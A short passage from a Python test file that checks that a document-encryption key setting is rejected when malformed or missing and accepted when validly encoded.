        delete_document(name, directory=directory)


def test_document_key_refuses_a_bad_setting():
    with pytest.raises(ConfigurationError):
        document_key({"IDENTITY_DOCUMENT_KEY": bytes(16)})
    with pytest.raises(ConfigurationError):
        document_key({})
    assert document_key({"IDENTITY_DOCUMENT_KEY": urlsafe(KEY)}) == KEY
